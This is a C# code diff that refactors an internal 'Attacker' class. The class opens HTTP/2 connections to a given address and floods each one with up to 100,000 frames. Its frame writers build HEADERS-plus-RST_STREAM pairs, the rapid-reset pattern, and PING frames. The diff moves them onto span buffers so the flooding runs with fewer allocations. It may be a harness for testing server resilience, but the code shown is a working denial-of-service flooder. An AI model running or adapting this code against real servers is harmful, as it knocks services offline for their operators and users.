@@ -1,3 +1,4 @@
+using System.Buffers.Binary;
 using System.Globalization;
 using System.Net.Sockets;
 
@@ -15,30 +16,45 @@ internal sealed class Attacker
 
     private const int FramesPerConnection = 100_000;
     private const int FramesPerLook = 16;
+    private const int MostBytes = 32;
 
     private readonly CancellationTokenSource _stop = new();
+    private readonly byte[] _answers = new byte[65_536];
     private readonly Thread _thread;
 
-    public Attacker(string address, Func<int, byte[]> frames)
+    /// <param name="address">Whom it floods.</param>
+    /// <param name="frame">Writes the frames of a number into a buffer and says how many bytes they are.</param>
+    public Attacker(string address, FrameWriter frame)
     {
-        _thread = new(() => Run(address, frames)) { IsBackground = true };
+        _thread = new(() => Run(address, frame)) { IsBackground = true };
         _thread.Start();
     }
+
+    /// <summary>Writes the frames of a number into a buffer and says how many bytes they are: an array for each would keep the collector busy, and stop the callers that share this process.</summary>
+    public delegate int FrameWriter(int number, Span<byte> into);
 
     public int Connections { get; private set; }
 
     public long Frames { get; private set; }
 
     /// <summary>HEADERS (an indexed :method POST, :scheme http, :path /) and RST_STREAM.</summary>
-    public static byte[] Reset(int number)
+    public static int Reset(int number, Span<byte> into)
     {
-        var stream = (2 * number) + 1;
-        ReadOnlySpan<byte> id = [(byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream];
-        return [0, 0, 3, 1, 5, .. id, 0x83, 0x86, 0x84, 0, 0, 4, 3, 0, .. id, 0, 0, 0, 8];
+        ReadOnlySpan<byte> frames = [0, 0, 3, 1, 5, 0, 0, 0, 0, 0x83, 0x86, 0x84, 0, 0, 4, 3, 0, 0, 0, 0, 0, 0, 0, 0, 8];
+        frames.CopyTo(into);
+        BinaryPrimitives.WriteInt32BigEndian(into[5..], (2 * number) + 1);
+        BinaryPrimitives.WriteInt32BigEndian(into[17..], (2 * number) + 1);
+        return frames.Length;
     }
 
     /// <summary>PING.</summary>
-    public static byte[] Ping(int number) => [0, 0, 8, 6, 0, 0, 0, 0, 0, .. BitConverter.GetBytes((long)number)];
+    public static int Ping(int number, Span<byte> into)
+    {
+        ReadOnlySpan<byte> frame = [0, 0, 8, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+        frame.CopyTo(into);
+        BinaryPrimitives.WriteInt64BigEndian(into[9..], number);
+        return frame.Length;
+    }
 
     public void Stop()
     {
@@ -47,7 +63,7 @@ internal sealed class Attacker
         _stop.Dispose();
     }
 
-    private void Run(string address, Func<int, byte[]> frames)
+    private void Run(string address, FrameWriter frame)
     {
         Processors.TakeForThread(Processor);
         var parts = address.Split(':');
@@ -58,7 +74,7 @@ internal sealed class Attacker
             {
                 caller.Connect(parts[0], int.Parse(parts[1], CultureInfo.InvariantCulture));
                 Connections++;
-                Flood(caller.GetStream(), frames);
+                Flood(caller.GetStream(), frame);
             }
             catch (Exception failure) when (failure is IOException or SocketException)
             {
@@ -67,18 +83,18 @@ internal sealed class Attacker
         }
     }
 
-    private void Flood(NetworkStream connection, Func<int, byte[]> frames)
+    private void Flood(NetworkStream connection, FrameWriter frame)
     {
-        var answers = new byte[65_536];
+        Span<byte> frames = stackalloc byte[MostBytes];
         // Preface and empty settings.
         connection.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
         connection.Write([0, 0, 0, 4, 0, 0, 0, 0, 0]);
         for (var i = 0; i < FramesPerConnection && !_stop.IsCancellationRequested; i++)
         {
-            connection.Write(frames(i));
+            connection.Write(frames[..frame(i, frames)]);
             Frames++;
             // A server that cannot get rid of its answers would stop reading.
-            if (i % FramesPerLook == 0 && connection.DataAvailable && connection.Read(answers) == 0) return;
+            if (i % FramesPerLook == 0 && connection.DataAvailable && connection.Read(_answers) == 0) return;
         }
     }
 }
